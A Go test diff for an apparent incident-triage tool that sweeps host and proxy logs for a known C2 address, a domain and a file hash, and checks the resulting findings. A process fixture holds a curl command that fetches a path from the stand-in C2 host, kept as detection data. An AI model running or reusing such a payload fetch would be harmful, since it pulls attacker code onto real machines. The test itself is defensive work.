@@ -779,12 +779,16 @@ func TestSweep(t *testing.T) {
 		{"_id": "d", "host.name": "ACME-WS-041", "destination.ip": "203.0.113.666"}, // not the address
 		{"_id": "e", "host.name": "ACME-WS-042", "url.domain": "cdn.update.example.net"},
 		{"_id": "f", "host.name": "ACME-WS-017", "process.hash.sha256": hash},
+		// Proxy logs: the client's address, the host's or another's.
+		{"_id": "g", "source.ip": "10.20.1.17", "url.full": "https://" + c2 + "/a"},
+		{"_id": "h", "source.ip": "10.20.1.40", "url.full": "https://" + c2 + "/a"},
+		{"_id": "i", "message": "denied " + c2},
 	}}
-	sws = sweep(sys, "acme", "ACME-WS-017", sws, t0, t0.Add(time.Hour), func(string, ...any) {})
+	sws = sweep(sys, "acme", "ACME-WS-017", []string{"10.20.1.17"}, sws, t0, t0.Add(time.Hour), func(string, ...any) {})
 	if len(sys.searches) != 3 {
 		t.Errorf("searches = %q", sys.searches)
 	}
-	if sws[0].Events != 3 || fmt.Sprint(sws[0].Hosts) != "[{ACME-WS-017 2} {ACME-WS-040 1}]" {
+	if sws[0].Events != 6 || fmt.Sprint(sws[0].Hosts) != "[{ACME-WS-017 3} {(no host or source address) 1} {10.20.1.40 1} {ACME-WS-040 1}]" {
 		t.Errorf("C2 sweep = %+v", sws[0])
 	}
 	fs := sweepFindings(sws, "ACME-WS-017")
@@ -793,23 +797,40 @@ func TestSweep(t *testing.T) {
 		rules = append(rules, f.Rule+"/"+f.Severity+": "+f.What)
 	}
 	want := []string{
-		"ioc-match/high: Known indicator 203.0.113.66 (ip, config iocs) also seen on other hosts: 1 events",
+		"ioc-match/high: Known indicator 203.0.113.66 (ip, config iocs) also seen on other hosts: 2 events",
 		"indicator-elsewhere/medium: The ticket's indicator update.example.net (domain) also seen on other hosts: 1 events",
 	}
 	if !slices.Equal(rules, want) {
 		t.Errorf("findings = %q, want %q", rules, want)
 	}
-	if !strings.Contains(fs[0].Evidence[0], "ACME-WS-040 (1)") || strings.Contains(fs[0].Evidence[0], "ACME-WS-017") {
+	if !strings.Contains(fs[0].Evidence[0], "ACME-WS-040 (1)") || strings.Contains(fs[0].Evidence[0], "ACME-WS-017") || strings.Contains(fs[0].Evidence[0], "no host") {
 		t.Errorf("evidence = %q", fs[0].Evidence)
+	}
+	// Triaged from another host, a known indicator it never saw is no
+	// finding about it.
+	if fs := sweepFindings(sweep(sys, "acme", "ACME-WS-099", nil, sweepIndicators([]string{c2}, nil), t0, t0.Add(time.Hour), func(string, ...any) {}), "ACME-WS-099"); len(fs) != 0 {
+		t.Errorf("findings on a host that never saw the indicator: %+v", fs)
 	}
 	// The host's own events of the config's indicators feed ioc-match when
 	// the collection lacks them.
 	col := &pdk.Collection{Network: []pdk.Event{{"_id": "a"}}}
 	var ids []string
-	for _, e := range sweptOnHost(sws, col, nil) {
+	for _, e := range sweptOnHost(sws, col) {
 		ids = append(ids, e.ID())
 	}
-	if !slices.Equal(ids, []string{"b", "f"}) {
+	if !slices.Equal(ids, []string{"b", "g", "f"}) {
 		t.Errorf("swept events on the host = %q", ids)
+	}
+	// A hash only the process event holds (the tree has none) is found
+	// through the sweep; an event the tree and the sweep both hold counts
+	// once.
+	procs := flatten([]*pdk.ProcessNode{{PID: "7", Name: "curl.exe", CommandLine: "curl http://" + c2 + "/x", EventID: "p"}})
+	extra := append(sweptOnHost(sws, col), pdk.Event{"_id": "p", "process.command_line": "curl http://" + c2 + "/x"})
+	got = nil
+	for _, f := range iocFindings([]string{c2, hash}, col, procs, extra) {
+		got = append(got, f.What)
+	}
+	if want := []string{"Known indicator 203.0.113.66 (ip, config iocs) seen 3 times", "Known indicator " + hash + " (hash, config iocs) seen 1 times"}; !slices.Equal(got, want) {
+		t.Errorf("ioc findings = %q, want %q", got, want)
 	}
 }
